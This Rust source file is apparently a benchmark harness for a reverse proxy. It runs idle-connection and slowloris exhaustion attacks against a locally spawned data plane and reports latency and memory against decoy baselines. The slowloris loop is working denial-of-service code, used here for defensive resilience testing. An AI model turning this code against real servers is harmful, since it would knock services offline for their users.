//! Connection-exhaustion attacks for tests and `bench scenario slowloris`:
//! many idle keep-alive connections (each made one request, then holds its
//! socket) and a slowloris attack (connections that send a request head a
//! byte at a time and never finish it, reopened as the proxy closes them).
//!
//! The scenario measures open-loop latency of normal traffic (the 4 KB
//! demo page) through a 1-core data plane alone, then while 10,000 idle
//! connections are held by a decoy listener of the harness (what the
//! machine's holding them costs), then by the proxy, then with 500
//! slowloris connections besides aimed at a decoy (the harness's own cost:
//! the proxy sees none of it), then aimed at the proxy, and alone again
//! (what stays), and reports each with the data plane's resident memory.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use crate::procs::{dataplane_addr, sibling, spawn_ready};

/// How an attack runs beside a latency measurement.
#[derive(Clone, Copy, Default)]
pub struct Measured {
    /// The slowloris connections go to a decoy listener of this process
    /// (accepted, never read) instead of the proxy: the harness does the
    /// same work while the proxy sees none of it, which measures what the
    /// attack costs the measurement itself.
    pub decoy: bool,
    /// The idle connections go to the decoy too (accepted, never
    /// answered, so they make no request): the machine holds as many
    /// sockets while the proxy holds none, which tells the kernel's cost
    /// of them from the proxy's.
    pub idle_decoy: bool,
    /// The attack's thread runs in `SCHED_IDLE` (see [`lowest_priority`]).
    /// Off in tests: on a CPU that something else keeps busy (a loaded
    /// test machine) it would never run.
    pub background: bool,
}

/// A running attack; stopped (every socket closed) when dropped.
pub struct Attack {
    stop: Arc<AtomicBool>,
    idle: Vec<TcpStream>,
    /// The decoy holding idle connections aimed at it.
    idle_holder: Option<IdleHolder>,
    /// Slowloris connections the proxy closed (each is reopened).
    pub closed_by_proxy: Arc<AtomicU64>,
    drip: Option<std::thread::JoinHandle<()>>,
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.drip.take() {
            let _ = t.join();
        }
        self.idle.clear();
        self.idle_holder = None;
    }
}

/// One GET of `/` for `host` on `s`, read to its end (Content-Length).
fn one_request(s: &mut TcpStream, host: &str) -> Result<(), String> {
    s.write_all(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes())
        .map_err(|e| e.to_string())?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    loop {
        let n = s.read(&mut chunk).map_err(|e| e.to_string())?;
        if n == 0 {
            return Err("closed".into());
        }
        buf.extend_from_slice(&chunk[..n]);
        let mut fields = [httparse::EMPTY_HEADER; 32];
        let mut r = httparse::Response::new(&mut fields);
        if let Ok(httparse::Status::Complete(head)) = r.parse(&buf) {
            let length = r
                .headers
                .iter()
                .find(|h| h.name.eq_ignore_ascii_case("content-length"))
                .and_then(|h| {
                    std::str::from_utf8(h.value)
                        .ok()?
                        .trim()
                        .parse::<usize>()
                        .ok()
                })
                .unwrap_or(0);
            if buf.len() >= head + length {
                return Ok(());
            }
        }
    }
}

/// A decoy for idle connections in a process of its own (a Python
/// listener: this one's open-files limit holds only the client sides),
/// accepting and holding every connection until dropped.
struct IdleHolder {
    child: std::process::Child,
    addr: SocketAddr,
}

impl IdleHolder {
    const SCRIPT: &'static str = "import socket, sys\n\
        l = socket.socket()\n\
        l.bind(('127.0.0.1', 0))\n\
        l.listen(4096)\n\
        print(l.getsockname()[1], flush=True)\n\
        held = []\n\
        while True:\n    held.append(l.accept()[0])\n";

    fn start() -> Result<IdleHolder, String> {
        use std::io::BufRead;
        let mut child = Command::new("python3")
            .args(["-c", Self::SCRIPT])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .map_err(|e| format!("python3 for the idle decoy: {e}"))?;
        let mut line = String::new();
        let stdout = child.stdout.take().ok_or("no stdout")?;
        std::io::BufReader::new(stdout)
            .read_line(&mut line)
            .map_err(|e| e.to_string())?;
        let port: u16 = line
            .trim()
            .parse()
            .map_err(|_| format!("the idle decoy printed {line:?}, not its port"))?;
        Ok(IdleHolder {
            child,
            addr: SocketAddr::from(([127, 0, 0, 1], port)),
        })
    }
}

impl Drop for IdleHolder {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Attack {
    /// Opens `idle` keep-alive connections (one request each) and
    /// `slow` slowloris connections to `addr` for `host`.
    pub fn start(addr: SocketAddr, host: &str, idle: usize, slow: usize) -> Result<Attack, String> {
        Attack::start_with(addr, host, (idle, slow), Measured::default())
    }

    /// [`Attack::start`] as a measurement runs it (see [`Measured`]).
    pub fn start_with(
        addr: SocketAddr,
        host: &str,
        (idle, slow): (usize, usize),
        how: Measured,
    ) -> Result<Attack, String> {
        let idle_holder = if how.idle_decoy {
            Some(IdleHolder::start()?)
        } else {
            None
        };
        let mut held = Vec::with_capacity(idle);
        for i in 0..idle {
            let failed = |e: std::io::Error| format!("idle connection {i}: {e}");
            if let Some(holder) = &idle_holder {
                held.push(TcpStream::connect(holder.addr).map_err(failed)?);
                continue;
            }
            let mut s = TcpStream::connect(addr).map_err(failed)?;
            s.set_read_timeout(Some(Duration::from_secs(30)))
                .map_err(|e| e.to_string())?;
            one_request(&mut s, host).map_err(|e| format!("idle connection {i}: {e}"))?;
            held.push(s);
        }
        let decoy = if how.decoy {
            let listener = std::net::TcpListener::bind("127.0.0.1:0").map_err(|e| e.to_string())?;
            listener.set_nonblocking(true).map_err(|e| e.to_string())?;
            Some(listener)
        } else {
            None
        };
        let stop = Arc::new(AtomicBool::new(false));
        let closed_by_proxy = Arc::new(AtomicU64::new(0));
        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ").into_bytes();
        let slow_addr = match &decoy {
            Some(l) => l.local_addr().map_err(|e| e.to_string())?,
            None => addr,
        };
        let drip = {
            let (stop, closed) = (stop.clone(), closed_by_proxy.clone());
            std::thread::spawn(move || {
                if how.background {
                    lowest_priority();
                }
                // (socket, bytes of the head sent)
                let mut conns: Vec<(TcpStream, usize)> = Vec::new();
                let mut decoy_side = Vec::new();
                while !stop.load(Ordering::Relaxed) {
                    while let Some(Ok((s, _))) = decoy.as_ref().map(|l| l.accept()) {
                        decoy_side.push(s);
                    }
                    while conns.len() < slow {
                        match TcpStream::connect(slow_addr) {
                            Ok(s) => {
                                let _ = s.set_nonblocking(true);
                                conns.push((s, 0));
                            }
                            Err(_) => break,
                        }
                    }
                    // One more byte on each: the head never ends (the
                    // field value grows with `a`s past the fixed start).
                    conns.retain_mut(|(s, sent)| {
                        let byte = head.get(*sent).copied().unwrap_or(b'a');
                        *sent += 1;
                        let mut probe = [0u8; 512];
                        // Readable (the 408, or end of stream): the
                        // proxy closed it. Would block: still open.
                        let gone = s.read(&mut probe).is_ok() || s.write_all(&[byte]).is_err();
                        if gone {
                            closed.fetch_add(1, Ordering::Relaxed);
                        }
                        !gone
                    });
                    std::thread::sleep(Duration::from_millis(200));
                }
            })
        };
        Ok(Attack {
            stop,
            idle: held,
            idle_holder,
            closed_by_proxy,
            drip: Some(drip),
        })
    }

    /// The idle connections still answer (each makes one more request).
    pub fn idle_still_served(&mut self, host: &str, sample: usize) -> Result<(), String> {
        for s in self.idle.iter_mut().take(sample) {
            one_request(s, host)?;
        }
        Ok(())
    }
}

/// Puts the calling thread in `SCHED_IDLE`: it runs only when its CPU
/// has nothing else to run. The attack's bursts (a write and a read probe
/// on each of its connections every 200 ms) share a CPU with the load
/// generator on a small machine; at normal priority they delayed the load
/// generator's sends by milliseconds, which it counted as the proxy's
/// latency. A real attacker's CPU is not the proxy's.
fn lowest_priority() {
    let param = libc::sched_param { sched_priority: 0 };
    // SAFETY: pid 0 is the calling thread; `param` outlives the call.
    let _ = unsafe { libc::sched_setscheduler(0, libc::SCHED_IDLE, &param) };
}

/// Keeps this process (and the threads it starts from now on: load,
/// origin, attack) off the last CPU, which the data plane's core gets to
/// itself; without it the attack's bursts ran on the data plane's CPU and
/// measured the harness. Returns whether it could.
fn keep_off_last_cpu(cpus: usize) -> bool {
    if cpus < 2 {
        return false;
    }
    // SAFETY: a zeroed cpu_set_t is an empty set; CPU_SET stays within it
    // for indexes below CPU_SETSIZE.
    unsafe {
        let mut set: libc::cpu_set_t = std::mem::zeroed();
        for cpu in 0..(cpus - 1).min(libc::CPU_SETSIZE as usize) {
            libc::CPU_SET(cpu, &mut set);
        }
        libc::sched_setaffinity(0, std::mem::size_of::<libc::cpu_set_t>(), &set) == 0
    }
}

/// `bench scenario slowloris`.
pub fn scenario(rate: f64, seconds: f64, idle: usize, slow: usize) -> Result<String, String> {
    let cpus = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let pinned = keep_off_last_cpu(cpus);
    let limit = crate::scenario::raise_nofile();
    // This process holds the client side; the data plane, the proxy side
    // (and its upstream connections), under the same limit.
    if (limit as usize) < idle + slow + 200 {
        return Err(format!(
            "open-files limit {limit} is too low for {idle} idle and {slow} slow connections"
        ));
    }
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = crate::fast_origin::serve(
            "127.0.0.1:0".parse().expect("literal address"),
            crate::origin::demo_app("demo.test"),
            1,
            |a| {
                let _ = tx.send(a);
            },
        );
    });
    let upstream: SocketAddr = rx
        .recv_timeout(Duration::from_secs(10))
        .map_err(|_| "the origin did not start".to_string())?;
    let dir = std::env::temp_dir().join(format!("palisade-slowloris-{}", std::process::id()));
    std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
    let policy = dir.join("policy.toml");
    std::fs::write(
        &policy,
        format!("[proxy]\nsuffix = \"proxy.test\"\n[[app]]\nname = \"demo\"\ndomains = [\"demo.test\"]\nupstream = \"http://{upstream}\"\n"),
    )
    .map_err(|e| e.to_string())?;
    let snap = dir.join("policy.snap");
    let compiled = Command::new(sibling("controld")?)
        .arg("compile")
        .arg(&policy)
        .arg("-o")
        .arg(&snap)
        .output()
        .map_err(|e| e.to_string())?;
    if !compiled.status.success() {
        return Err("controld compile failed".into());
    }
    let (dp, line) = spawn_ready(
        Command::new(sibling("dataplane")?)
            .arg("--snapshot")
            .arg(&snap)
            .args(["--listen", "127.0.0.1:0", "--cores", "1"])
            .args(["--cpus", &(cpus - 1).to_string()])
            .args(["--header-timeout", "10"]),
    )?;
    let addr = dataplane_addr(&line)?;
    let host = "demo.test.proxy.test";
    let run = || {
        let target = crate::load::Target::parse(&format!("http://{addr}/"), Some(host))?;
        crate::load::run(&crate::load::LoadConfig {
            targets: vec![target],
            rate: Some(rate),
            connections: 20,
            threads: 1,
            duration: Duration::try_from_secs_f64(seconds).unwrap_or(Duration::from_secs(10)),
            warmup: Duration::from_secs(1),
            progress: false,
        })
    };
    let alone = run()?;
    let rss_alone = crate::scenario::rss_kib(dp.id())?;
    let background = Measured {
        background: true,
        ..Measured::default()
    };
    let idle_decoyed = Attack::start_with(
        addr,
        host,
        (idle, 0),
        Measured {
            idle_decoy: true,
            ..background
        },
    )?;
    let with_idle_decoy = run()?;
    drop(idle_decoyed);
    let mut idle_only = Attack::start_with(addr, host, (idle, 0), background)?;
    let with_idle = run()?;
    let rss_idle = crate::scenario::rss_kib(dp.id())?;
    idle_only.idle_still_served(host, 100)?;
    drop(idle_only);
    let decoyed = Attack::start_with(
        addr,
        host,
        (idle, slow),
        Measured {
            decoy: true,
            ..background
        },
    )?;
    let with_decoy = run()?;
    let rss_decoy = crate::scenario::rss_kib(dp.id())?;
    drop(decoyed);
    let mut attack = Attack::start_with(addr, host, (idle, slow), background)?;
    let under = run()?;
    let rss_under = crate::scenario::rss_kib(dp.id())?;
    attack.idle_still_served(host, 100)?;
    let closed = attack.closed_by_proxy.load(Ordering::Relaxed);
    drop(attack);
    let after = run()?;
    let rss_after = crate::scenario::rss_kib(dp.id())?;
    drop(dp);
    let _ = std::fs::remove_dir_all(&dir);
    let row = |name: &str, r: &crate::load::LoadResult, rss: u64| {
        format!(
            "| {name} | {:.0} | {} | {} | {} | {} | {} | {:.1} |\n",
            r.requests_per_s,
            r.latency_us.p50,
            r.latency_us.p90,
            r.latency_us.p99,
            r.latency_us.p999,
            r.errors.connect
                + r.errors.read
                + r.errors.write
                + r.errors.timeout
                + r.errors.status
                + r.errors.parse,
            rss as f64 / 1024.0
        )
    };
    let mut out = format!(
        "slowloris: open loop at {rate:.0} requests/s of the 4 KB page through a 1-core data plane (CPU {}{}), {seconds:.0} s each\n\n| normal traffic | requests/s | p50 µs | p90 µs | p99 µs | p99.9 µs | errors | data plane RSS MiB |\n| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |\n",
        cpus - 1,
        if pinned {
            "; the harness on the others"
        } else {
            "; the harness shares it"
        }
    );
    out.push_str(&row("alone", &alone, rss_alone));
    out.push_str(&row(
        &format!("with {idle} idle connections to a decoy (kernel cost)"),
        &with_idle_decoy,
        rss_alone,
    ));
    out.push_str(&row(
        &format!("with {idle} idle connections"),
        &with_idle,
        rss_idle,
    ));
    out.push_str(&row(
        &format!("with {idle} idle + {slow} slowloris connections to a decoy (harness cost)"),
        &with_decoy,
        rss_decoy,
    ));
    out.push_str(&row(
        &format!("with {idle} idle + {slow} slowloris connections"),
        &under,
        rss_under,
    ));
    out.push_str(&row("alone again, afterwards", &after, rss_after));
    let ratio = under.latency_us.p99 as f64 / alone.latency_us.p99.max(1) as f64;
    out.push_str(&format!(
        "\np99 under attack / alone: {ratio:.2}×; slowloris connections closed by the proxy (header timeout 10 s) and reopened: {closed}"
    ));
    Ok(out)
}
